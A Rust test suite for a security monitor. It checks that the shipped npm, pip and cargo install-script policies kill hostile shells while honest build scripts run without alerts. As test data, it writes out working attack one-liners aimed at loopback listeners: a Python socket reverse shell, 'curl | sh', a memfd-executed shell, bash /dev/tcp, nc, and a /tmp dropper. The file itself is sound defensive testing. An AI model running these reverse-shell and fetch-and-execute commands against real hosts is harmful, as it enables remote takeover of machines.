//! The install-script shell rule under each shipped policy (`policies/{npm,pip,cargo}.yaml`) in
//! enforce mode: the attacks are still killed before their first instruction (reverse shell on
//! a socket to a loopback listener, `curl | sh` from a loopback server, a pipe fed by a process
//! with a network socket, a memfd shell, a copied shell, an interactive shell, `sh -c` running
//! a denied program), while the shells of honest builds run with zero alerts (`sh -c`, a
//! pre-existing wrapper script whichever way its `#!` names the shell, a package's script).
//! The install script is started as each package manager starts one: npm's `sh -c` with its
//! lifecycle variables, pip's build with PIP_BUILD_TRACKER, cargo's `build-script-build`.
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{HttpServer, Listener, TempDir, read_jsonl, root_or_skip, watcher_bin};

fn shipped(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("policies").join(name)
}

const MANAGERS: [&str; 3] = ["npm", "pip", "cargo"];

struct Step {
    code: Option<i32>,
    stderr: String,
    events: Vec<Value>,
}

impl Step {
    fn alerts(&self) -> Vec<&Value> {
        self.events.iter().filter(|e| e["kind"] == "alert").collect()
    }
    fn context(&self) -> String {
        format!("exit {:?}\nalerts: {:#?}\nstderr:\n{}", self.code, self.alerts(), self.stderr)
    }
}

/// Runs SCRIPT as an install script of package manager `pm` under `policy` (enforce mode),
/// with `cwd` as the step's working directory.
fn install_script(pm: &str, policy: &Path, dir: &TempDir, cwd: &Path, script: &str) -> Step {
    let log = dir.join(format!("{pm}-{}.jsonl", std::process::id()));
    let _ = std::fs::remove_file(&log);
    let mut cmd = Command::new(watcher_bin());
    cmd.args(["run", "--quiet", "--mode", "enforce", "--policy"]).arg(policy).arg("--log").arg(&log).arg("--");
    match pm {
        "npm" => {
            cmd.args(["sh", "-c", script])
                .env("npm_lifecycle_event", "postinstall")
                .env("npm_package_name", "evil-pkg")
                .env("npm_package_version", "6.6.6");
        }
        "pip" => {
            cmd.args(["sh", "-c", script]).env("PIP_BUILD_TRACKER", dir.join("tracker"));
        }
        "cargo" => {
            // A build script that runs a command in a child process, as build.rs does.
            let b = cwd.join("target/debug/build/evil-crate-0a1b2c3d4e5f/build-script-build");
            if !b.exists() {
                std::fs::create_dir_all(b.parent().unwrap()).unwrap();
                std::fs::copy("/usr/bin/xargs", &b).unwrap();
            }
            cmd.arg(&b).args(["-a", "/dev/null", "sh", "-c", script]).env("CARGO_PKG_NAME", "evil-crate");
        }
        _ => unreachable!(),
    }
    let out = cmd.current_dir(cwd).stdin(Stdio::null()).output().unwrap();
    Step {
        code: out.status.code(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        events: if log.exists() { read_jsonl(&log) } else { Vec::new() },
    }
}

/// A directory outside the temp dirs, removed on drop.
struct HomeDir(PathBuf);

impl Drop for HomeDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn assert_killed(step: &Step, marker: &Path, what: &str) {
    assert_eq!(step.code, Some(77), "{what}: {}", step.context());
    assert!(!marker.exists(), "{what}: the shell ran\n{}", step.context());
    let kills =
        step.alerts().iter().filter(|a| a["rule"] == "shell-from-install-script" && a["action"] == "kill").count();
    assert!(kills > 0, "{what}: no shell kill\n{}", step.context());
}

#[test]
fn attacks_are_killed_under_every_shipped_policy() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-shells");
    let proj = dir.join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    let listener = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let port = listener.addr().port();
    let http = HttpServer::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let copy = dir.join("innocent-tool");
    std::fs::copy("/bin/dash", &copy).unwrap();
    for pm in MANAGERS {
        // The shipped policy, plus the two loopback services the attacks talk to: the shell
        // rule is under test here, not the egress rule (which would stop the connections
        // first, so a reverse shell would never get its socket).
        let text = std::fs::read_to_string(shipped(&format!("{pm}.yaml"))).unwrap();
        let (head, tail) = text.split_once("  allow: []\n").expect("an egress allow list");
        let allow = format!(
            "  allow:\n    - ip: 127.0.0.1\n      ports: [{port}, {}]\n",
            http.base_url().rsplit(':').next().unwrap().trim_end_matches('/')
        );
        let policy = dir.join(format!("{pm}-with-listeners.yaml"));
        std::fs::write(&policy, format!("{head}{allow}{tail}")).unwrap();
        let marker = dir.join(format!("ran-{pm}"));
        let m = marker.display().to_string();
        http.route("/install.sh", "text/plain", format!("echo RAN > {m}\n"));
        let attacks: Vec<(&str, String)> = vec![
            (
                "reverse shell on a socket",
                format!(
                    "python3 -c 'import socket,os; s=socket.create_connection((\"127.0.0.1\",{port})); \
                     [os.dup2(s.fileno(),f) for f in (0,1,2)]; os.execv(\"/bin/sh\",[\"sh\",\"-c\",\"echo RAN > {m}\"])'"
                ),
            ),
            ("curl | sh from a loopback server", format!("curl -s {}/install.sh | sh", http.base_url())),
            (
                // The fetcher streams into the shell's stdin (a writer that has closed the pipe
                // before the shell is looked at is not seen: see docs/POLICY.md).
                "a pipe from a process with a network socket",
                format!(
                    "python3 -c 'import socket,subprocess,time; s=socket.create_connection((\"127.0.0.1\",{port})); \
                     p=subprocess.Popen([\"sh\",\"-c\",\"cat >/dev/null; echo RAN > {m}\"], stdin=subprocess.PIPE); \
                     p.stdin.write(b\"id\"); p.stdin.flush(); time.sleep(0.5); p.stdin.close(); p.wait()'"
                ),
            ),
            (
                "a shell from a memfd",
                format!(
                    "python3 -c 'import os; fd=os.memfd_create(\"x\", 0); os.write(fd, open(\"/bin/dash\",\"rb\").read()); \
                     os.execv(\"/proc/self/fd/%d\" % fd, [\"sh\",\"-c\",\"echo RAN > {m}\"])'"
                ),
            ),
            ("a copied shell under another name", format!("{} -c 'echo RAN > {m}'", copy.display())),
            ("an interactive shell", format!("bash -i -c 'echo RAN > {m}' 2>/dev/null")),
            ("sh -c running a denied program", format!("sh -c 'nc -z 127.0.0.1 {port}; echo RAN > {m}'")),
            ("bash's /dev/tcp redirection", format!("bash -c 'echo x > /dev/tcp/127.0.0.1/{port}; echo RAN > {m}'")),
        ];
        for (what, script) in attacks {
            let _ = std::fs::remove_file(&marker);
            let step = install_script(pm, &policy, &dir, &proj, &format!("{script}; true"));
            assert_killed(&step, &marker, &format!("{pm}: {what}"));
        }
    }
    // Nothing the killed shells would have sent reached the listener.
    assert_eq!(listener.bytes(), 0);
}

#[test]
fn honest_shells_and_wrapper_scripts_run_with_zero_alerts_under_every_shipped_policy() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-shells-ok");
    let proj = dir.join("proj");
    // Wrapper scripts that existed before the step, outside the install trees (a shim
    // directory under $HOME as pyenv's), with both kinds of #! line.
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let shims = HomeDir(PathBuf::from(home).join(format!(".cache/watcher-test-shims-{}", std::process::id())));
    let shims = &shims.0;
    std::fs::create_dir_all(shims).unwrap();
    let pkg = proj.join("node_modules/native-pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    let out = dir.join("out");
    let o = out.display().to_string();
    for (name, shebang) in [("tool-env", "#!/usr/bin/env bash"), ("tool-sh", "#!/bin/sh")] {
        let p = shims.join(name);
        std::fs::write(&p, format!("{shebang}\necho {name} >> {o}\n")).unwrap();
        Command::new("chmod").arg("755").arg(&p).status().unwrap();
    }
    std::fs::write(pkg.join("build.sh"), format!("echo package-script >> {o}\n")).unwrap();
    let s = shims.display().to_string();
    let script = format!(
        "sh -c 'echo sh-c >> {o}'; \
         python3 -c 'import subprocess; subprocess.run(\"echo execsync >> {o}\", shell=True, check=True)'; \
         {s}/tool-env; {s}/tool-sh; PATH={s}:$PATH tool-env; \
         sh ./node_modules/native-pkg/build.sh; \
         echo 'all: ; @echo make-recipe >> {o}' > {d}/Makefile; make -s -f {d}/Makefile",
        d = dir.path().display()
    );
    for pm in MANAGERS {
        let _ = std::fs::remove_file(&out);
        let step = install_script(pm, &shipped(&format!("{pm}.yaml")), &dir, &proj, &script);
        assert_eq!(step.code, Some(0), "{pm}: {}", step.context());
        assert!(step.alerts().is_empty(), "{pm}: {}", step.context());
        let ran = std::fs::read_to_string(&out).unwrap_or_default();
        for want in ["sh-c", "execsync", "tool-env", "tool-sh", "package-script", "make-recipe"] {
            assert!(ran.lines().any(|l| l == want), "{pm}: {want} did not run: {ran:?}\n{}", step.context());
        }
        // The held shells were judged from recorded facts (replay judges the same).
        let held = step.events.iter().filter(|e| e["kind"] == "exec" && e["held"] == true).count();
        assert!(held >= 4, "{pm}: {held} held shells\n{}", step.context());
        assert!(step.events.iter().filter(|e| e["held"] == true).all(|e| e["facts"].is_object()));
    }

    // shells: deny (strict): every shell an install script starts is killed, except wrappers.
    let strict = dir.join("strict.yaml");
    let text = std::fs::read_to_string(shipped("npm.yaml")).unwrap().replace("shells: suspicious", "shells: deny");
    std::fs::write(&strict, text).unwrap();
    let _ = std::fs::remove_file(&out);
    let step = install_script(
        "npm",
        &strict,
        &dir,
        &proj,
        &format!("{s}/tool-env; {s}/tool-sh; sh -c 'echo sh-c >> {o}'; true"),
    );
    assert_eq!(step.code, Some(77), "{}", step.context());
    let ran = std::fs::read_to_string(&out).unwrap_or_default();
    assert_eq!(ran, "tool-env\ntool-sh\n", "{}", step.context());
    assert_eq!(step.alerts().len(), 1, "{}", step.context());
}

#[test]
fn a_dropper_in_a_temp_dir_is_denied_but_a_checkout_under_tmp_is_not() {
    if !root_or_skip() {
        return;
    }
    let dir = TempDir::new("watcher-dropper");
    let proj = dir.join("proj");
    let bin = proj.join("node_modules/.bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::copy("/usr/bin/true", bin.join("esbuild")).unwrap();
    let dropper = dir.join("dropped");
    // The project's own binary under /tmp runs; a binary written to /tmp outside it is denied.
    let script = format!("./node_modules/.bin/esbuild && cp /usr/bin/true {d} && {d}", d = dropper.display());
    let step = install_script("npm", &shipped("npm.yaml"), &dir, &proj, &script);
    assert_eq!(step.code, Some(77), "{}", step.context());
    let alerts = step.alerts();
    assert_eq!(alerts.len(), 1, "{}", step.context());
    assert_eq!(alerts[0]["rule"], "exec-denied");
    assert!(alerts[0]["message"].as_str().unwrap().contains("dropped"), "{}", step.context());
}
